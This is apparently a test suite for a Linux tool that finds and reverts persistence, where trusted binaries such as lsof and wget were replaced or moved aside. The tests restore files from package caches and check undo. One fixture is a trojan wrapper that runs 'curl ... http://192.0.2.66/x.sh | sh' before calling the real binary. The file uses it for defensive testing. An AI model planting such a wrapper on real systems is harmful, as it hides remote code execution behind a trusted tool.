/** Files of packages that were replaced come back from what the host has of them. Nothing in these roots is ever run. */
import { afterEach, describe, expect, test } from 'bun:test';
import { chmodSync, existsSync, lstatSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Files, inertProgram } from '../../../test/persistence/case.ts';
import { type PlantedRoot, plantRoot } from '../../../test/persistence/root.ts';
import { debOf, type PackedFile } from '../../formats/package/package.fixture.ts';
import type { Plan } from '../../model/plan.ts';
import type { Ended } from '../execute/carry-out.ts';
import { differences, pictureOf } from '../execute/steps.fixture.ts';
import { carryOutOn, planRoot, scanRoot } from './plan-root.fixture.ts';

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

const original = inertProgram(9_000);
const other = inertProgram();
/** That of the roots of cases. */
const wget = inertProgram(2048 + 'wget'.length);
const path = '/usr/bin/lsof';
const archive = '/var/cache/apt/archives/case-package_1.0-1_amd64.deb';
const deb = (file: Partial<PackedFile> = {}): Buffer =>
  debOf([{ path, content: original, modifiedSeconds: 1_500_000_000, ...file }]);

function plant(planted: Files, packaged: Files = { [path]: original }): PlantedRoot {
  const root = plantRoot({
    mechanism: 'changed-tool',
    dress: 'unowned-binary',
    what: 'here',
    packaged,
    planted,
  });
  cleanups.push(() => root.remove());
  return root;
}

function caseFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'demine-plan-'));
  cleanups.push(() => rmSync(folder, { recursive: true, force: true }));
  return folder;
}

const changes = ({ steps }: Plan): readonly string[] =>
  steps.flatMap(({ change }) => {
    if (change.kind === 'by-hand')
      return change.task === 'reinstall-package' ? [`by-hand ${change.command}`] : [];
    if (change.kind === 'restore-file')
      return [
        `restore ${change.path} from ${change.from.kind === 'package' ? change.from.archive : change.from.path}`,
      ];
    return 'path' in change ? [`${change.kind} ${change.path}`] : [];
  });

const ways = (told: readonly Ended[]): readonly string[] =>
  told.flatMap((ended) =>
    ended.how === 'by-hand' || ended.step.change.kind === 'keep-evidence'
      ? []
      : ['stop' in ended ? ended.stop.id : ended.how],
  );

describe('a program that was replaced', () => {
  test('comes back from the cache with the rights of its package, and undoing brings back what stood there', async () => {
    const root = plant({
      [path]: { content: other, mode: 0o777, uid: 1000 },
      [archive]: deb({ mode: 0o2755, group: 'www-data' }),
    });
    const { plan } = await planRoot(root.path);
    expect(changes(plan)).toEqual([`restore ${path} from ${archive}`]);
    const folder = caseFolder();
    const before = pictureOf(root.path, { folderTimes: true });
    expect(ways(await carryOutOn(root.path, folder, plan, 'clean'))).toEqual(['done']);
    expect(Buffer.compare(readFileSync(join(root.path, path)), original)).toBe(0);
    const { mode, uid, gid, mtimeMs } = lstatSync(join(root.path, path));
    expect([mode & 0o7777, uid, gid, mtimeMs]).toEqual([0o2755, 0, 33, 1_500_000_000_000]);
    const { result } = await scanRoot(root.path);
    expect(
      result.persistence.filter(({ source, judgement }) => source === path && judgement !== 'benign'),
    ).toEqual([]);
    expect(ways(await carryOutOn(root.path, folder, plan, 'undo'))).toEqual(['undone']);
    expect(differences(before, pictureOf(root.path, { folderTimes: true }))).toEqual([]);
  });

  test('takes capabilities over that the script of the package sets in plain words, and none that it does not name', async () => {
    const script = '#!/bin/sh\nsetcap cap_net_raw+ep /usr/bin/lsof || true\n';
    const info = '/var/lib/dpkg/info/case-package.postinst';
    const root = plant({ [path]: other, [archive]: deb(), [info]: { content: script, mode: 0o755 } });
    const { plan } = await planRoot(root.path);
    await carryOutOn(root.path, caseFolder(), plan, 'clean');
    const picture = JSON.stringify(pictureOf(root.path, { folderTimes: false }).get(path));
    expect(picture).toContain('security.capability');
    expect(picture).toContain(
      Buffer.from([1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]).toString('base64'),
    );
  });

  test('is asked of the package manager where its rights come from a script of the package', async () => {
    const info = '/var/lib/dpkg/info/case-package.postinst';
    const script = '#!/bin/sh\nchgrp mem /usr/bin/lsof\nchmod 2755 /usr/bin/lsof\n';
    const root = plant({ [path]: other, [archive]: deb(), [info]: { content: script, mode: 0o755 } });
    const { plan } = await planRoot(root.path);
    expect(changes(plan)).toEqual(['by-hand apt-get install --reinstall case-package']);
  });

  test('does not come from a cache whose content is not that of the database', async () => {
    const root = plant({ [path]: other, [archive]: deb({ content: inertProgram() }) });
    const { plan } = await planRoot(root.path);
    expect(changes(plan)).toEqual(['by-hand apt-get install --reinstall case-package']);
  });

  test('nor where somebody wrote to the cache after the plan was made', async () => {
    const root = plant({ [path]: other, [archive]: deb() });
    const { plan } = await planRoot(root.path);
    writeFileSync(join(root.path, archive), deb({ content: inertProgram() }));
    const before = pictureOf(root.path, { folderTimes: false });
    expect(ways(await carryOutOn(root.path, caseFolder(), plan, 'clean'))).toEqual(['source-damaged']);
    expect(differences(before, pictureOf(root.path, { folderTimes: false }))).toEqual([]);
  });

  test('is not touched where it was diverted or an update runs', async () => {
    const diverted = plant({
      [path]: other,
      [archive]: deb(),
      '/var/lib/dpkg/diversions': `${path}\n${path}.distrib\nlocal\n`,
    });
    expect(changes((await planRoot(diverted.path)).plan).join()).not.toContain('restore');
    const between = plant({ [path]: other, [archive]: deb(), [`${path}.dpkg-new`]: original });
    expect(changes((await planRoot(between.path)).plan)).toEqual([]);
  });

  test('keeps the rights that its owner gave it', async () => {
    const root = plant({
      [path]: other,
      [archive]: deb(),
      '/var/lib/dpkg/statoverride': `root sudo 4750 ${path}\n`,
    });
    const { plan } = await planRoot(root.path);
    await carryOutOn(root.path, caseFolder(), plan, 'clean');
    const { mode, gid } = lstatSync(join(root.path, path));
    expect([mode & 0o7777, gid]).toEqual([0o4750, 27]);
  });
});

describe('a program that was put aside', () => {
  const fetching = '#!/bin/sh\ncurl -fsSL http://192.0.2.66/x.sh | sh\nexec /usr/bin/lsof.original "$@"\n';

  test('gets its name back from the wrapper in its place, and all of it can be undone', async () => {
    const root = plant({
      [path]: { content: fetching, mode: 0o755 },
      '/usr/bin/lsof.original': { content: original, mode: 0o2755, gid: 33 },
    });
    const { plan } = await planRoot(root.path);
    expect(changes(plan)).toEqual([
      `restore ${path} from /usr/bin/lsof.original`,
      'quarantine /usr/bin/lsof.original',
    ]);
    const folder = caseFolder();
    const before = pictureOf(root.path, { folderTimes: true });
    expect(ways(await carryOutOn(root.path, folder, plan, 'clean'))).toEqual(['done', 'done']);
    expect(Buffer.compare(readFileSync(join(root.path, path)), original)).toBe(0);
    expect(lstatSync(join(root.path, path)).mode & 0o7777).toBe(0o2755);
    expect(existsSync(join(root.path, '/usr/bin/lsof.original'))).toBe(false);
    await carryOutOn(root.path, folder, plan, 'undo');
    expect(differences(before, pictureOf(root.path, { folderTimes: true }))).toEqual([]);
  });

  test('comes back where nothing is in its place', async () => {
    const root = plant({ '/usr/bin/wge': { content: wget, mode: 0o755 } });
    rmSync(join(root.path, '/usr/bin/wget'));
    const { plan } = await planRoot(root.path, {
      added: ({ result }) =>
        result.persistence.filter(({ source }) => source === '/usr/bin/wge').map(({ id }) => id),
    });
    expect(changes(plan)).toEqual(['restore /usr/bin/wget from /usr/bin/wge', 'quarantine /usr/bin/wge']);
    const folder = caseFolder();
    const before = pictureOf(root.path, { folderTimes: true });
    expect(ways(await carryOutOn(root.path, folder, plan, 'clean'))).toEqual(['done', 'done']);
    expect(existsSync(join(root.path, '/usr/bin/wget'))).toBe(true);
    await carryOutOn(root.path, folder, plan, 'undo');
    expect(differences(before, pictureOf(root.path, { folderTimes: true }))).toEqual([]);
  });

  test('undoing takes nothing away that is no longer what was brought', async () => {
    const root = plant({ '/usr/bin/wge': { content: wget, mode: 0o755 } });
    rmSync(join(root.path, '/usr/bin/wget'));
    const { plan } = await planRoot(root.path, {
      added: ({ result }) =>
        result.persistence.filter(({ source }) => source === '/usr/bin/wge').map(({ id }) => id),
    });
    const folder = caseFolder();
    await carryOutOn(root.path, folder, plan, 'clean');
    writeFileSync(join(root.path, '/usr/bin/wget'), inertProgram());
    chmodSync(join(root.path, '/usr/bin/wget'), 0o755);
    expect(ways(await carryOutOn(root.path, folder, plan, 'undo'))).toEqual(['undone', 'other-content']);
  });

  test('a copy beside an untouched tool stays', async () => {
    const root = plant({ '/usr/local/bin/lsof.bak': { content: original, mode: 0o755 } });
    const { plan } = await planRoot(root.path);
    expect(changes(plan)).toEqual([]);
  });
});
